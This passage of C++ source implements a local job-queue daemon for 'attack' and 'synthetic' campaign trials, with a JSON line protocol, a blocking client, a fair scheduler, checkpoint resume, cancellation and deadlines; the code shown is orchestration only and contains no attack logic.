    auto rec = data ? job_record_from_json(*data) : std::nullopt;
    if (!rec) {
      ++out.corrupt;
      continue;
    }
    out.jobs.push_back(std::move(*rec));
  }
  ::closedir(d);
  std::sort(out.jobs.begin(), out.jobs.end(),
            [](const JobRecord& a, const JobRecord& b) { return a.seq < b.seq; });
  return out;
}

}  // namespace sbm::service
