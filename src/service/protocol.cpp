#include "service/protocol.h"

#include "campaign/checkpoint.h"
#include "common/json.h"
#include "simd/backend.h"

namespace sbm::service {

std::string_view to_string(JobMode mode) {
  return mode == JobMode::kAttack ? "attack" : "synthetic";
}

std::optional<JobMode> job_mode_from_string(std::string_view s) {
  if (s == "attack") return JobMode::kAttack;
  if (s == "synthetic") return JobMode::kSynthetic;
  return std::nullopt;
}

std::string_view to_string(JobState state) {
  switch (state) {
    case JobState::kQueued: return "queued";
    case JobState::kRunning: return "running";
    case JobState::kDone: return "done";
    case JobState::kFailed: return "failed";
    case JobState::kCancelled: return "cancelled";
    case JobState::kDeadline: return "deadline_exceeded";
  }
  return "unknown";
}

std::optional<JobState> job_state_from_string(std::string_view s) {
  if (s == "queued") return JobState::kQueued;
  if (s == "running") return JobState::kRunning;
  if (s == "done") return JobState::kDone;
  if (s == "failed") return JobState::kFailed;
  if (s == "cancelled") return JobState::kCancelled;
  if (s == "deadline_exceeded") return JobState::kDeadline;
  return std::nullopt;
}

void write_job_spec(JsonWriter& w, const JobSpec& spec) {
  w.begin_object();
  w.field("tenant", spec.tenant)
      .field("mode", std::string(to_string(spec.mode)))
      .field("synthetic_trial_ms", u64{spec.synthetic_trial_ms})
      .field("weight", spec.weight);
  w.key("options");
  campaign::write_options(w, spec.options);
  w.end_object();
}

std::optional<JobSpec> job_spec_from_json(const JsonValue& v) {
  if (!v.is_object()) return std::nullopt;
  JobSpec spec;
  if (const JsonValue* f = v.find("tenant")) {
    if (f->as_string().empty()) return std::nullopt;
    spec.tenant = f->as_string();
  }
  if (const JsonValue* f = v.find("mode")) {
    const auto mode = job_mode_from_string(f->as_string());
    if (!mode) return std::nullopt;
    spec.mode = *mode;
  }
  if (const JsonValue* f = v.find("synthetic_trial_ms")) {
    spec.synthetic_trial_ms = static_cast<u32>(f->as_u64());
  }
  if (const JsonValue* f = v.find("weight")) spec.weight = f->as_double();
  if (const JsonValue* f = v.find("options")) {
    auto options = campaign::options_from_json(*f);
    if (!options) return std::nullopt;
    spec.options = *options;
  }
  // Fleet-size cap is service policy (a tenant cannot demand an absurd
  // board pool); fleet_size == 0 and non-positive deadlines are already
  // rejected by options_from_json.
  if (spec.options.trials == 0 || spec.options.words == 0 ||
      spec.options.batch_width == 0 ||
      spec.options.batch_width > simd::kMaxLanes ||
      spec.options.fleet_size > 64) {
    return std::nullopt;
  }
  return spec;
}

std::string_view to_string(Verb verb) {
  switch (verb) {
    case Verb::kSubmit: return "submit";
    case Verb::kStatus: return "status";
    case Verb::kResult: return "result";
    case Verb::kCancel: return "cancel";
    case Verb::kList: return "list";
    case Verb::kMetrics: return "metrics";
    case Verb::kShutdown: return "shutdown";
  }
  return "unknown";
}

std::optional<Verb> verb_from_string(std::string_view s) {
  if (s == "submit") return Verb::kSubmit;
  if (s == "status") return Verb::kStatus;
  if (s == "result") return Verb::kResult;
  if (s == "cancel") return Verb::kCancel;
  if (s == "list") return Verb::kList;
  if (s == "metrics") return Verb::kMetrics;
  if (s == "shutdown") return Verb::kShutdown;
  return std::nullopt;
}

std::optional<Request> parse_request(std::string_view line, std::string* error) {
  auto fail = [&](const char* why) -> std::optional<Request> {
    if (error != nullptr) *error = why;
    return std::nullopt;
  };
  const std::optional<JsonValue> doc = parse_json(line);
  if (!doc || !doc->is_object()) return fail("request is not a JSON object");
  const JsonValue* verb_member = doc->find("verb");
  if (verb_member == nullptr) return fail("missing verb");
  const auto verb = verb_from_string(verb_member->as_string());
  if (!verb) return fail("unknown verb");

  Request req;
  req.verb = *verb;
  if (const JsonValue* f = doc->find("request_id")) req.request_id = f->as_string();
  switch (req.verb) {
    case Verb::kSubmit: {
      const JsonValue* job = doc->find("job");
      if (job == nullptr) return fail("submit requires a job object");
      auto spec = job_spec_from_json(*job);
      if (!spec) return fail("malformed job spec");
      req.spec = std::move(*spec);
      break;
    }
    case Verb::kStatus:
    case Verb::kResult:
    case Verb::kCancel: {
      const JsonValue* id = doc->find("id");
      if (id == nullptr || id->as_string().empty()) return fail("missing job id");
      req.job_id = id->as_string();
      break;
    }
    case Verb::kList:
      if (const JsonValue* f = doc->find("tenant")) req.tenant = f->as_string();
      break;
    case Verb::kMetrics:
      break;
    case Verb::kShutdown:
      if (const JsonValue* f = doc->find("drain")) req.drain = f->as_bool(true);
      break;
  }
  return req;
}

std::string request_to_json(const Request& req) {
  JsonWriter w;
  w.begin_object();
  w.field("verb", std::string(to_string(req.verb)));
  if (!req.request_id.empty()) w.field("request_id", req.request_id);
  switch (req.verb) {
    case Verb::kSubmit:
      w.key("job");
      write_job_spec(w, req.spec);
      break;
    case Verb::kStatus:
    case Verb::kResult:
    case Verb::kCancel:
      w.field("id", req.job_id);
      break;
    case Verb::kList:
      if (!req.tenant.empty()) w.field("tenant", req.tenant);
      break;
    case Verb::kMetrics:
      break;
    case Verb::kShutdown:
      w.field("drain", req.drain);
      break;
  }
  w.end_object();
  return w.str();
}

void begin_response(JsonWriter& w, Verb verb, bool ok, const std::string& request_id) {
  w.begin_object();
  w.field("ok", ok).field("verb", std::string(to_string(verb)));
  if (!request_id.empty()) w.field("request_id", request_id);
}

std::string error_response(Verb verb, int code, std::string_view reason,
                           const std::string& request_id, size_t retry_after_ms) {
  JsonWriter w;
  begin_response(w, verb, false, request_id);
  w.field("code", code).field("error", std::string(reason));
  if (retry_after_ms != 0) w.field("retry_after_ms", retry_after_ms);
  w.end_object();
  return w.str();
}

std::string error_response(int code, std::string_view reason, const std::string& request_id) {
  JsonWriter w;
  w.begin_object();
  w.field("ok", false);
  if (!request_id.empty()) w.field("request_id", request_id);
  w.field("code", code).field("error", std::string(reason));
  w.end_object();
  return w.str();
}

}  // namespace sbm::service
