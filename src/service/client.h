// Blocking client for the campaign service protocol: one connection, one
// request line out, one response line back.  Used by the tests, the load
// generator (examples/campaign_load.cpp) and anyone scripting the daemon.
#pragma once

#include <optional>
#include <string>

#include "common/json.h"
#include "service/protocol.h"

namespace sbm::service {

class Client {
 public:
  Client() = default;
  ~Client();

  Client(const Client&) = delete;
  Client& operator=(const Client&) = delete;
  Client(Client&& other) noexcept;
  Client& operator=(Client&& other) noexcept;

  /// Connects to a Unix-domain socket path.
  bool connect_unix(const std::string& path, std::string* error = nullptr);
  /// Connects to 127.0.0.1:port.
  bool connect_tcp(u16 port, std::string* error = nullptr);
  bool connected() const { return fd_ >= 0; }
  void close();

  /// Sends one request and reads one response line.  nullopt on transport
  /// failure (the connection is closed); a parsed-but-error response is
  /// returned normally (check "ok").
  std::optional<JsonValue> request(const Request& req);
  /// Raw variant for protocol tests: sends `line` + '\n' verbatim.
  std::optional<JsonValue> request_raw(const std::string& line);

  /// submit convenience: returns the job id, or nullopt with *code / *error
  /// / *retry_after_ms filled from the rejection.
  std::optional<std::string> submit(const JobSpec& spec, int* code = nullptr,
                                    std::string* error = nullptr,
                                    size_t* retry_after_ms = nullptr);
  /// Polls status until the job reaches a terminal state (sleeping
  /// `poll_ms` between polls); returns the final state string.
  std::optional<std::string> wait_done(const std::string& id, size_t poll_ms = 2);

 private:
  bool send_line(const std::string& line);
  std::optional<std::string> read_line();

  int fd_ = -1;
  std::string buf_;  // bytes past the last returned line
};

}  // namespace sbm::service
