#include "service/service.h"

#include <chrono>
#include <cstdio>

#include "campaign/checkpoint.h"
#include "campaign/orchestrator.h"
#include "common/json.h"
#include "obs/metrics.h"
#include "runtime/thread_pool.h"

namespace sbm::service {

namespace {

/// splitmix64 finalizer — the campaign layer's trial-seed derivation.
constexpr u64 mix64(u64 z) {
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
  return z ^ (z >> 31);
}

/// Deterministic stand-in trial for kSynthetic jobs: the same (seed, index)
/// seed derivation and protected-variant cadence as run_trial, with outcome
/// counters drawn from the trial seed instead of a real attack.  It obeys
/// the purity rule of Orchestrator::TrialFn, so the whole determinism
/// contract — fingerprint stability across thread counts and across
/// checkpoint/resume — is exercised at load-test rates.
campaign::TrialOutcome synthetic_trial(const campaign::CampaignOptions& options, size_t index,
                                       u32 sleep_ms) {
  campaign::TrialOutcome out;
  out.index = index;
  out.trial_seed = mix64(options.seed ^ (0x9e3779b97f4a7c15ull * (index + 1)));
  out.protected_variant = options.protected_every != 0 &&
                          index % options.protected_every == options.protected_every - 1;
  out.attack_success = !out.protected_variant;
  out.key_match = out.attack_success;
  out.expected = true;
  out.oracle_runs = 40 + out.trial_seed % 25;
  out.cache_hits = out.trial_seed % 7;
  out.probe_calls = out.oracle_runs + out.cache_hits;
  out.lut_sites = 1000 + out.trial_seed % 128;
  out.phase_runs = {{"synthetic.scan", out.oracle_runs - out.oracle_runs / 3},
                    {"synthetic.verify", out.oracle_runs / 3}};
  out.physical_runs = out.oracle_runs;
  if (sleep_ms != 0) std::this_thread::sleep_for(std::chrono::milliseconds(sleep_ms));
  out.wall_seconds = sleep_ms / 1000.0;
  return out;
}

/// The "metrics" member of a stored campaign report, re-rendered compactly;
/// empty when absent (failed jobs have no report).
std::string extract_metrics(const std::string& report_json) {
  if (report_json.empty()) return {};
  const std::optional<JsonValue> doc = parse_json(report_json);
  if (!doc || !doc->is_object()) return {};
  const JsonValue* metrics = doc->find("metrics");
  return metrics == nullptr ? std::string() : metrics->dump();
}

struct ServiceMetrics {
  obs::Counter& submitted;
  obs::Counter& rejected;
  obs::Counter& completed;
  obs::Counter& failed;
  obs::Counter& cancelled;
  obs::Counter& deadline;
  obs::Counter& resumed_jobs;
  obs::Counter& trials_completed;
  obs::Gauge& queue_depth;
  obs::Histogram& job_ms;

  static ServiceMetrics& get() {
    static ServiceMetrics m{obs::MetricsRegistry::global().counter("service.jobs_submitted"),
                            obs::MetricsRegistry::global().counter("service.jobs_rejected"),
                            obs::MetricsRegistry::global().counter("service.jobs_completed"),
                            obs::MetricsRegistry::global().counter("service.jobs_failed"),
                            obs::MetricsRegistry::global().counter("service.jobs_cancelled"),
                            obs::MetricsRegistry::global().counter("service.jobs_deadline"),
                            obs::MetricsRegistry::global().counter("service.jobs_resumed"),
                            obs::MetricsRegistry::global().counter("service.trials_completed"),
                            obs::MetricsRegistry::global().gauge("service.queue_depth"),
                            obs::MetricsRegistry::global().histogram("service.job_ms")};
    return m;
  }
};

std::string job_id_of(u64 seq) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "j-%06llu", static_cast<unsigned long long>(seq));
  return buf;
}

double job_cost(const JobSpec& spec) {
  return static_cast<double>(std::max<size_t>(spec.options.trials, 1));
}

}  // namespace

void write_job_view(JsonWriter& w, const JobView& view, bool include_metrics) {
  w.begin_object();
  w.field("id", view.id)
      .field("tenant", view.tenant)
      .field("mode", std::string(to_string(view.mode)))
      .field("state", std::string(to_string(view.state)))
      .field("seq", view.seq)
      .field("trials", view.trials_total)
      .field("trials_done", view.trials_done)
      .field("resumed_trials", view.resumed_trials)
      .field("cancelled_trials", view.cancelled_trials)
      .field("all_expected", view.all_expected)
      .field("fingerprint", view.fingerprint)
      .field("failure", view.failure);
  if (include_metrics && !view.metrics_json.empty()) {
    w.key("metrics").raw_value(view.metrics_json);
  }
  w.end_object();
}

CampaignService::CampaignService(ServiceOptions options)
    : options_(std::move(options)),
      store_(options_.store_dir),
      scheduler_([this] {
        SchedulerLimits limits = options_.limits;
        limits.workers = std::max<size_t>(options_.workers, 1);
        return limits;
      }()),
      pool_(std::make_unique<runtime::ThreadPool>(options_.pool_threads)) {
  const JobStore::Loaded loaded = store_.load_all();
  stats_.corrupt_records = loaded.corrupt;
  for (const JobRecord& rec : loaded.jobs) {
    auto job = std::make_shared<Job>();
    job->record = rec;
    next_seq_ = std::max(next_seq_, rec.seq + 1);
    const bool in_flight = rec.state == JobState::kQueued || rec.state == JobState::kRunning;
    if (!in_flight) {
      job->final_metrics_json = extract_metrics(rec.report_json);
    } else if (options_.resume_on_start) {
      // A job interrupted mid-run goes back to queued; its finished trials
      // live in the checkpoint and will be resumed, not re-run.
      job->record.state = JobState::kQueued;
      if (const auto cp =
              campaign::load_checkpoint(store_.checkpoint_path(rec.id), rec.spec.options)) {
        std::vector<bool> seen(rec.spec.options.trials, false);
        for (const auto& t : cp->completed) {
          if (t.index < seen.size()) seen[t.index] = true;
        }
        size_t done = 0;
        for (const bool s : seen) done += s ? 1 : 0;
        job->record.trials_done = done;
      }
      store_.save(job->record);
      scheduler_.push(rec.spec.tenant, rec.spec.weight, job_cost(rec.spec), rec.id);
      ++stats_.resumed_jobs;
      ServiceMetrics::get().resumed_jobs.add();
      if (options_.verbose) {
        std::fprintf(stderr, "[service] resuming %s (%zu/%zu trials done)\n", rec.id.c_str(),
                     job->record.trials_done, rec.spec.options.trials);
      }
    }
    jobs_.emplace(rec.id, std::move(job));
  }
  const size_t workers = std::max<size_t>(options_.workers, 1);
  workers_.reserve(workers);
  for (size_t i = 0; i < workers; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

CampaignService::~CampaignService() { stop_hard(); }

CampaignService::Submitted CampaignService::submit(JobSpec spec) {
  Submitted out;
  ServiceMetrics& m = ServiceMetrics::get();
  auto job = std::make_shared<Job>();
  {
    const std::lock_guard<std::mutex> lock(mu_);
    if (stopping_) {
      ++stats_.rejected;
      m.rejected.add();
      out.code = 503;
      out.error = "shutting_down";
      return out;
    }
    job->record.seq = next_seq_++;
  }
  job->record.id = job_id_of(job->record.seq);
  job->record.state = JobState::kQueued;
  job->record.spec = std::move(spec);
  {
    const std::lock_guard<std::mutex> lock(mu_);
    jobs_[job->record.id] = job;
  }
  // Persist before enqueueing: once the scheduler can hand the id to a
  // worker, the record must already be durable.
  if (!store_.save(job->record)) {
    const std::lock_guard<std::mutex> lock(mu_);
    jobs_.erase(job->record.id);
    ++stats_.rejected;
    m.rejected.add();
    out.code = 500;
    out.error = "store_write_failed";
    return out;
  }
  if (const auto rej = scheduler_.push(job->record.spec.tenant, job->record.spec.weight,
                                       job_cost(job->record.spec), job->record.id)) {
    {
      const std::lock_guard<std::mutex> lock(mu_);
      jobs_.erase(job->record.id);
      ++stats_.rejected;
    }
    m.rejected.add();
    std::remove(store_.job_path(job->record.id).c_str());
    out.code = rej->code;
    out.error = rej->reason;
    out.retry_after_ms = rej->retry_after_ms;
    return out;
  }
  {
    const std::lock_guard<std::mutex> lock(mu_);
    ++stats_.submitted;
  }
  m.submitted.add();
  out.ok = true;
  out.id = job->record.id;
  out.queue_depth = scheduler_.queued();
  m.queue_depth.set(out.queue_depth);
  return out;
}

std::shared_ptr<CampaignService::Job> CampaignService::find(const std::string& id) const {
  const std::lock_guard<std::mutex> lock(mu_);
  const auto it = jobs_.find(id);
  return it == jobs_.end() ? nullptr : it->second;
}

JobView CampaignService::view_of(Job& job) const {
  const std::lock_guard<std::mutex> lock(job.mu);
  JobView v;
  v.id = job.record.id;
  v.tenant = job.record.spec.tenant;
  v.mode = job.record.spec.mode;
  v.state = job.record.state;
  v.seq = job.record.seq;
  v.trials_total = job.record.spec.options.trials;
  v.trials_done = job.record.trials_done;
  v.resumed_trials = job.record.resumed_trials;
  v.cancelled_trials = job.record.cancelled_trials;
  v.all_expected = job.record.all_expected;
  v.fingerprint = job.record.fingerprint;
  v.failure = job.record.failure;
  if (!job.final_metrics_json.empty()) {
    v.metrics_json = job.final_metrics_json;
  } else {
    JsonWriter w;
    job.live.write_metrics(w);
    v.metrics_json = w.str();
  }
  return v;
}

std::optional<JobView> CampaignService::status(const std::string& id) const {
  const std::shared_ptr<Job> job = find(id);
  if (!job) return std::nullopt;
  return view_of(*job);
}

std::optional<std::string> CampaignService::result_json(const std::string& id) const {
  const std::shared_ptr<Job> job = find(id);
  if (!job) return std::nullopt;
  const std::lock_guard<std::mutex> lock(job->mu);
  if (job->record.report_json.empty()) return std::nullopt;
  return job->record.report_json;
}

std::vector<JobView> CampaignService::list(const std::string& tenant) const {
  std::vector<std::shared_ptr<Job>> jobs;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    jobs.reserve(jobs_.size());
    for (const auto& [id, job] : jobs_) jobs.push_back(job);
  }
  std::vector<JobView> out;
  out.reserve(jobs.size());
  for (const auto& job : jobs) {
    JobView v = view_of(*job);
    if (!tenant.empty() && v.tenant != tenant) continue;
    out.push_back(std::move(v));
  }
  std::sort(out.begin(), out.end(),
            [](const JobView& a, const JobView& b) { return a.seq < b.seq; });
  return out;
}

std::optional<JobState> CampaignService::cancel(const std::string& id) {
  const std::shared_ptr<Job> job = find(id);
  if (!job) return std::nullopt;
  if (scheduler_.erase(id)) {
    // Still queued: finalize immediately; no trials will run.
    {
      const std::lock_guard<std::mutex> lock(job->mu);
      job->record.state = JobState::kCancelled;
      job->record.cancelled_trials =
          job->record.spec.options.trials - job->record.trials_done;
      store_.save(job->record);
      store_.remove_checkpoint(id);
    }
    {
      const std::lock_guard<std::mutex> lock(mu_);
      ++stats_.cancelled;
    }
    ServiceMetrics::get().cancelled.add();
    refresh_queue_gauge();
    return JobState::kCancelled;
  }
  const std::lock_guard<std::mutex> lock(job->mu);
  switch (job->record.state) {
    case JobState::kQueued:   // popped but not yet running: worker will notice
    case JobState::kRunning:  // stops after its in-flight trials
      job->user_cancel.store(true);
      job->cancel.store(true);
      return job->record.state;
    default:
      return job->record.state;  // terminal; the protocol layer answers 409
  }
}

void CampaignService::refresh_queue_gauge() {
  ServiceMetrics::get().queue_depth.set(scheduler_.queued());
}

std::string CampaignService::metrics_json() const {
  return obs::MetricsRegistry::global().snapshot().to_json();
}

CampaignService::Stats CampaignService::stats() const {
  Stats out;
  std::vector<std::shared_ptr<Job>> jobs;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    out = stats_;
    jobs.reserve(jobs_.size());
    for (const auto& [id, job] : jobs_) jobs.push_back(job);
  }
  for (const auto& job : jobs) {
    const std::lock_guard<std::mutex> lock(job->mu);
    if (job->record.state == JobState::kQueued) ++out.queued;
    if (job->record.state == JobState::kRunning) ++out.running;
  }
  return out;
}

void CampaignService::worker_loop() {
  while (const auto id = scheduler_.pop_wait()) {
    const std::shared_ptr<Job> job = find(*id);
    refresh_queue_gauge();
    if (!job) continue;
    const auto start = std::chrono::steady_clock::now();
    run_job(job);
    const double ms =
        std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start)
            .count();
    scheduler_.note_job_ms(ms);
    ServiceMetrics::get().job_ms.observe(static_cast<u64>(ms));
  }
}

void CampaignService::run_job(const std::shared_ptr<Job>& job) {
  JobSpec spec;
  {
    const std::lock_guard<std::mutex> lock(job->mu);
    if (job->user_cancel.load()) {
      // Cancelled between pop and start; nothing ran.
      job->record.state = JobState::kCancelled;
      job->record.cancelled_trials =
          job->record.spec.options.trials - job->record.trials_done;
      store_.save(job->record);
      store_.remove_checkpoint(job->record.id);
    } else {
      job->record.state = JobState::kRunning;
      store_.save(job->record);
      spec = job->record.spec;
    }
  }
  if (job->user_cancel.load()) {
    const std::lock_guard<std::mutex> lock(mu_);
    ++stats_.cancelled;
    ServiceMetrics::get().cancelled.add();
    return;
  }

  campaign::CampaignOptions opt = spec.options;
  opt.checkpoint_path = store_.checkpoint_path(job->record.id);
  opt.resume = true;  // answers pre-restart trials from the checkpoint
  opt.verbose = false;

  campaign::Orchestrator orch(pool_.get());
  campaign::Orchestrator::Hooks hooks;
  hooks.cancel = &job->cancel;
  // Wall-clock deadline: checked after every finished trial (the trial
  // granularity is the service's cancellation granularity throughout), and
  // enforced through the same cancel flag a tenant cancel uses — the
  // deadline_exceeded latch is what finalizes the job as kDeadline instead
  // of kCancelled.
  const double deadline_seconds = spec.options.deadline_seconds;
  const auto job_start = std::chrono::steady_clock::now();
  hooks.on_trial = [this, job, deadline_seconds, job_start](const campaign::TrialOutcome& t,
                                                           size_t completed, size_t total) {
    (void)total;
    {
      const std::lock_guard<std::mutex> lock(job->mu);
      job->record.trials_done = completed;
      job->live.accumulate(t);
    }
    ServiceMetrics::get().trials_completed.add();
    if (deadline_seconds > 0) {
      const double elapsed =
          std::chrono::duration<double>(std::chrono::steady_clock::now() - job_start).count();
      if (elapsed > deadline_seconds && !job->deadline_exceeded.exchange(true)) {
        job->cancel.store(true);
      }
    }
  };
  if (spec.mode == JobMode::kSynthetic) {
    const u32 sleep_ms = spec.synthetic_trial_ms;
    hooks.trial_fn = [sleep_ms](const campaign::CampaignOptions& o, size_t i,
                                runtime::ThreadPool*) { return synthetic_trial(o, i, sleep_ms); };
  }

  campaign::CampaignReport report;
  std::string failure;
  try {
    report = orch.run(opt, hooks);
  } catch (const std::exception& e) {
    failure = e.what();
  }

  if (!failure.empty()) {
    {
      const std::lock_guard<std::mutex> lock(job->mu);
      job->record.state = JobState::kFailed;
      job->record.failure = failure;
      store_.save(job->record);
    }
    const std::lock_guard<std::mutex> lock(mu_);
    ++stats_.failed;
    ServiceMetrics::get().failed.add();
    return;
  }

  if (job->deadline_exceeded.load()) {
    // Checked before the hard-stop parking below: a deadline also raises
    // the cancel flag, but the job is finished (over budget), not
    // interrupted — parking it would re-run it forever on every restart.
    finalize(*job, JobState::kDeadline, report, "deadline_exceeded");
    return;
  }

  if (job->cancel.load() && !job->user_cancel.load()) {
    // Daemon hard stop, not a tenant cancel: the job is interrupted, not
    // finished.  Park it as queued with its progress persisted — the trials
    // it completed are in the checkpoint, and the next start resumes it.
    const std::lock_guard<std::mutex> lock(job->mu);
    job->record.state = JobState::kQueued;
    job->record.trials_done = report.trials.size();
    store_.save(job->record);
    return;
  }

  const bool cancelled = job->user_cancel.load() && report.cancelled_trials > 0;
  finalize(*job, cancelled ? JobState::kCancelled : JobState::kDone, report, std::string());
}

void CampaignService::finalize(Job& job, JobState state, const campaign::CampaignReport& report,
                               const std::string& failure) {
  JsonWriter metrics;
  report.write_metrics(metrics);
  // The stats ledger is bumped *before* the terminal state becomes visible
  // through status(): a client that polls to a terminal state and then reads
  // stats must find the corresponding counter already incremented.
  {
    const std::lock_guard<std::mutex> lock(mu_);
    if (state == JobState::kDone) {
      ++stats_.completed;
      ServiceMetrics::get().completed.add();
    } else if (state == JobState::kDeadline) {
      ++stats_.deadline;
      ServiceMetrics::get().deadline.add();
    } else {
      ++stats_.cancelled;
      ServiceMetrics::get().cancelled.add();
    }
  }
  const std::lock_guard<std::mutex> lock(job.mu);
  job.record.state = state;
  job.record.failure = failure;
  job.record.trials_done = report.trials.size();
  job.record.fingerprint = report.fingerprint();
  job.record.all_expected = report.all_expected();
  job.record.resumed_trials = report.resumed_trials;
  job.record.cancelled_trials = report.cancelled_trials;
  job.record.report_json = report.to_json();
  job.final_metrics_json = metrics.str();
  store_.save(job.record);
  store_.remove_checkpoint(job.record.id);
}

void CampaignService::drain() {
  {
    const std::lock_guard<std::mutex> lock(mu_);
    stopping_ = true;
  }
  scheduler_.drain_close();
  join_workers();
}

void CampaignService::stop_hard() {
  {
    const std::lock_guard<std::mutex> lock(mu_);
    stopping_ = true;
  }
  scheduler_.hard_close();
  std::vector<std::shared_ptr<Job>> jobs;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    jobs.reserve(jobs_.size());
    for (const auto& [id, job] : jobs_) jobs.push_back(job);
  }
  // Running jobs stop after their in-flight trials; queued ones were never
  // popped (the scheduler is hard-closed) and stay kQueued in the store.
  for (const auto& job : jobs) job->cancel.store(true);
  join_workers();
}

void CampaignService::join_workers() {
  std::vector<std::thread> workers;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    if (joined_) return;
    joined_ = true;
    workers.swap(workers_);
  }
  for (std::thread& t : workers) t.join();
}

}  // namespace sbm::service
