#include "service/scheduler.h"

#include <algorithm>

namespace sbm::service {

namespace {

/// Before any job has finished, rejections assume this per-job cost.
constexpr double kDefaultJobMs = 100;
constexpr size_t kMinRetryMs = 25;
constexpr size_t kMaxRetryMs = 30'000;

}  // namespace

FairScheduler::FairScheduler(SchedulerLimits limits) : limits_(limits) {}

std::optional<FairScheduler::Rejection> FairScheduler::push(const std::string& tenant,
                                                            double weight, double cost,
                                                            std::string job_id) {
  const std::lock_guard<std::mutex> lock(mu_);
  if (!accepting_) {
    return Rejection{503, "shutting_down", hint_locked()};
  }
  if (queued_ >= limits_.total_capacity) {
    return Rejection{429, "queue_full", hint_locked()};
  }
  Tenant& t = tenants_[tenant];
  if (weight > 0) t.weight = weight;
  if (t.q.size() >= limits_.per_tenant_capacity) {
    return Rejection{429, "tenant_queue_full", hint_locked()};
  }
  // Start-time fair queuing: tags accrue from the virtual clock, per tenant,
  // at a rate inversely proportional to its weight.
  const double tag = std::max(vclock_, t.last_tag) + std::max(cost, 1.0) / t.weight;
  t.last_tag = tag;
  t.q.push_back(Item{std::move(job_id), tag});
  ++queued_;
  ready_.notify_one();
  return std::nullopt;
}

std::optional<std::string> FairScheduler::pop_locked() {
  const Tenant* best = nullptr;
  const std::string* best_name = nullptr;
  for (const auto& [name, t] : tenants_) {
    if (t.q.empty()) continue;
    // Smallest head tag wins; the map iteration order (tenant name) breaks
    // ties deterministically.
    if (best == nullptr || t.q.front().tag < best->q.front().tag) {
      best = &t;
      best_name = &name;
    }
  }
  if (best == nullptr) return std::nullopt;
  Tenant& t = tenants_[*best_name];
  Item item = std::move(t.q.front());
  t.q.pop_front();
  --queued_;
  vclock_ = std::max(vclock_, item.tag);
  return std::move(item.job_id);
}

std::optional<std::string> FairScheduler::pop_wait() {
  std::unique_lock<std::mutex> lock(mu_);
  for (;;) {
    if (hard_closed_) return std::nullopt;
    if (auto id = pop_locked()) return id;
    if (!accepting_) return std::nullopt;  // drained
    ready_.wait(lock);
  }
}

std::optional<std::string> FairScheduler::try_pop() {
  const std::lock_guard<std::mutex> lock(mu_);
  if (hard_closed_) return std::nullopt;
  return pop_locked();
}

bool FairScheduler::erase(const std::string& job_id) {
  const std::lock_guard<std::mutex> lock(mu_);
  for (auto& [name, t] : tenants_) {
    for (auto it = t.q.begin(); it != t.q.end(); ++it) {
      if (it->job_id == job_id) {
        t.q.erase(it);
        --queued_;
        return true;
      }
    }
  }
  return false;
}

void FairScheduler::note_job_ms(double ms) {
  const std::lock_guard<std::mutex> lock(mu_);
  ewma_job_ms_ = ewma_job_ms_ == 0 ? ms : ewma_job_ms_ * 0.75 + ms * 0.25;
}

size_t FairScheduler::hint_locked() const {
  const double per_job = ewma_job_ms_ == 0 ? kDefaultJobMs : ewma_job_ms_;
  const double backlog = static_cast<double>(queued_ + 1);
  const double workers = static_cast<double>(std::max<size_t>(limits_.workers, 1));
  const double hint = per_job * backlog / workers;
  return static_cast<size_t>(
      std::clamp(hint, static_cast<double>(kMinRetryMs), static_cast<double>(kMaxRetryMs)));
}

size_t FairScheduler::retry_after_ms_hint() const {
  const std::lock_guard<std::mutex> lock(mu_);
  return hint_locked();
}

size_t FairScheduler::queued() const {
  const std::lock_guard<std::mutex> lock(mu_);
  return queued_;
}

size_t FairScheduler::queued_for(const std::string& tenant) const {
  const std::lock_guard<std::mutex> lock(mu_);
  const auto it = tenants_.find(tenant);
  return it == tenants_.end() ? 0 : it->second.q.size();
}

bool FairScheduler::accepting() const {
  const std::lock_guard<std::mutex> lock(mu_);
  return accepting_;
}

void FairScheduler::drain_close() {
  const std::lock_guard<std::mutex> lock(mu_);
  accepting_ = false;
  ready_.notify_all();
}

void FairScheduler::hard_close() {
  const std::lock_guard<std::mutex> lock(mu_);
  accepting_ = false;
  hard_closed_ = true;
  ready_.notify_all();
}

}  // namespace sbm::service
