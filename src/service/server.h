// Socket front-end of the campaign daemon (DESIGN.md §4h): newline-delimited
// JSON requests (service/protocol.h) over a Unix-domain socket and/or local
// TCP, served by one poll()-based reactor thread.
//
// Why a reactor and not thread-per-connection: the load profile is thousands
// of mostly-idle submitters, each waiting on a one-line response — threads
// would spend their stacks on blocked reads.  One thread multiplexing
// non-blocking sockets handles the whole fleet; the actual campaign work
// happens on the CampaignService's workers, never on the reactor (every verb
// is a bounded-time state lookup or queue operation).
//
// The reactor owns sockets only.  Service lifecycle stays with the caller:
// a "shutdown" verb is answered, flushed, and then the reactor exits; the
// embedding main() observes shutdown_requested()/shutdown_drain() after
// wait() and calls CampaignService::drain() or stop_hard() itself.
#pragma once

#include <atomic>
#include <map>
#include <string>
#include <thread>

#include "service/service.h"

namespace sbm::service {

struct ServerOptions {
  /// Unix-domain socket path; empty = no unix listener.  An existing socket
  /// file at the path is replaced.
  std::string unix_path;
  /// Also (or instead) listen on 127.0.0.1:tcp_port.
  bool tcp = false;
  /// 0 = ephemeral; the bound port is readable via tcp_port() after start().
  u16 tcp_port = 0;
  /// Requests longer than this are answered 400 and the connection dropped.
  size_t max_line = 1 << 20;
  bool verbose = false;
};

class SocketServer {
 public:
  SocketServer(CampaignService& service, ServerOptions options);
  ~SocketServer();

  SocketServer(const SocketServer&) = delete;
  SocketServer& operator=(const SocketServer&) = delete;

  /// Binds the listeners and spawns the reactor thread.  False + *error on
  /// bind failure (nothing is left running).
  bool start(std::string* error);
  /// Blocks until the reactor exits — after a client's "shutdown" verb or a
  /// local stop().
  void wait();
  /// Asks the reactor to exit and joins it.  Open connections are dropped.
  void stop();

  /// True while the reactor thread is serving (false once it has exited,
  /// e.g. after a client's "shutdown" verb).
  bool running() const { return running_.load(); }

  /// Resolved TCP port (valid after start() when options.tcp).
  u16 tcp_port() const { return tcp_port_; }
  const std::string& unix_path() const { return options_.unix_path; }

  /// True once a client issued "shutdown"; drain tells the embedder whether
